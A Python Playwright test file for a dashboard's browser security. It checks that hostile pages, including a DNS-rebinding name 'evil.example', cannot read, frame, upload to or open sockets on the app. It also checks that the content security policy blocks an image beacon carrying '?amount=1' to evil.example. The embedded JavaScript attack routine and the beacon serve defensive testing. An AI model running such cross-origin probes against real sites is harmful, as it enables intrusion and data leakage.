"""Pages of strangers in the same browser: none reads the dashboard, frames it or sends it anything."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import SLOW

pytestmark = pytest.mark.browser
#: What a hostile page tries, each in its own way; it reports what came of each.
ATTACK = """async ({port, host}) => {
  const outcome = {};
  const within = (work) => Promise.race([work, new Promise(done => setTimeout(() => done("silence"), 4000))]);
  const attempt = async (name, work) => { outcome[name] = await within(work().catch(() => "refused")); };
  const there = `${host}:${port}`;
  await attempt("read", async () => (await fetch(`http://${there}/_stcore/health`)).text());
  await attempt("send", async () => (await fetch(`http://${there}/_stcore/upload_file/a/b`,
    {method: "PUT", body: "x"})).text());
  await attempt("socket", () => new Promise(done => {
    const socket = new WebSocket(`ws://${there}/_stcore/stream`);
    socket.onopen = () => done("open");
    socket.onerror = () => done("refused");
  }));
  await attempt("picture", () => new Promise(done => {
    const picture = new Image();
    picture.onload = () => done("shown");
    picture.onerror = () => done("refused");
    picture.src = `http://${there}/favicon.png`;
  }));
  await attempt("frame", () => new Promise(done => {
    const frame = document.createElement("iframe");
    frame.onload = () => setTimeout(() => done(frame.contentWindow.length === 0 ? "loaded" : "?"), 300);
    frame.src = `http://${there}/`;
    document.body.append(frame);
  }));
  return outcome;
}"""


@pytest.fixture(scope="module")
def other_port() -> Iterator[int]:
    class Blank(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<body>a stranger's page</body>")

        def log_message(self, *_: object) -> None:
            """Says nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Blank)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()


def test_a_foreign_name_that_resolves_to_this_machine_is_shown_nothing(page: Page, address: str) -> None:
    port = address.rsplit(":", 1)[1]
    answer = page.goto(f"http://evil.example:{port}/settlement")
    assert answer is not None
    assert answer.status == 403
    assert page.locator("#root").count() == 0
    # The page stays in the browser, and asks with the name that it was opened by.
    tried = page.evaluate(ATTACK, {"port": port, "host": "evil.example"})
    assert tried["socket"] == "refused"
    assert "ok" not in tried["read"]


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "evil.example"])
def test_a_page_of_another_port_or_site_neither_reads_nor_frames_nor_sends(
    page: Page, address: str, other_port: int, host: str
) -> None:
    port = address.rsplit(":", 1)[1]
    page.goto(f"http://{host}:{other_port}/")
    refused: list[str] = []
    page.on("requestfailed", lambda request: refused.append(request.url))
    statuses: dict[str, int] = {}
    page.on("response", lambda answer: statuses.update({answer.url: answer.status}))
    tried = page.evaluate(ATTACK, {"port": port, "host": "127.0.0.1"})
    assert {name: tried[name] for name in ("read", "send", "socket", "picture")} == dict.fromkeys(
        ("read", "send", "socket", "picture"), "refused"
    )
    framed = f"{address}/"
    assert statuses.get(framed) == 403 or framed in refused
    assert all(frame.locator("#root").count() == 0 for frame in page.frames)


@pytest.mark.nightly
def test_a_link_from_elsewhere_leads_to_the_page(page: Page, address: str, other_port: int) -> None:
    page.goto(f"http://evil.example:{other_port}/")
    page.evaluate("url => { location.href = url }", f"{address}/settlement")
    expect(page.get_by_role("heading", level=1)).to_be_visible(timeout=SLOW)


def test_the_pages_ask_for_nothing_that_the_policy_forbids_and_no_smuggled_image_is_fetched(
    page: Page, address: str, other_port: int
) -> None:
    broken: list[str] = []
    page.on("console", lambda said: broken.append(said.text) if "Content Security" in said.text else None)
    for key, sight in {
        "whatif?month=2026-10&region=华北": ".lever-figure",
        "upload": "[data-testid=stFileUploaderDropzone]",
        "": ".js-plotly-plot",
    }.items():
        page.goto(f"{address}/{key}")
        expect(page.locator(sight).first).to_be_visible(timeout=SLOW)
    assert broken == []
    came = page.evaluate(
        """port => new Promise(done => {
          const picture = new Image();
          picture.onload = picture.onerror = event => done(event.type);
          document.addEventListener("securitypolicyviolation", event => done(event.effectiveDirective));
          picture.src = `http://evil.example:${port}/?amount=1`;
        })""",
        other_port,
    )
    assert came == "img-src"
